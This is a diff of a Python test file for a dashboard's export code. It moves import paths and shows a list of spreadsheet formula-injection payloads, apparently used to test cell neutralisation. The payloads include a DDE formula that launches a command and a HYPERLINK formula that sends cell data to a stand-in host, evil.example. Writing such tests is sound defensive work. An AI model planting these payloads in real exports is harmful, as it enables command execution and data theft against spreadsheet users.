@@ -9,7 +9,10 @@ import json
 import pandas as pd
 import pytest
 
-from dashboard.export import (
+from dashboard.books.gazetteer import Gazetteer
+from dashboard.events.query import Query, events_in
+from dashboard.events.store import EventStore, index_store
+from dashboard.exports.export import (
     EXPORT_COLUMNS,
     NAME_LIMIT,
     TEXT_COLUMNS,
@@ -18,11 +21,8 @@ from dashboard.export import (
     to_csv_bytes,
     to_geojson_bytes,
 )
-from dashboard.gazetteer import Gazetteer
-from dashboard.load import load_events
-from dashboard.query import Query, events_in
-from dashboard.store import EventStore, index_store
-from dashboard.text import neutralise_cell, unneutralise_cell
+from dashboard.ingest.load import load_events
+from dashboard.model.text import neutralise_cell, unneutralise_cell
 
 PAYLOADS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd|' /C calc'!A0",
             '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
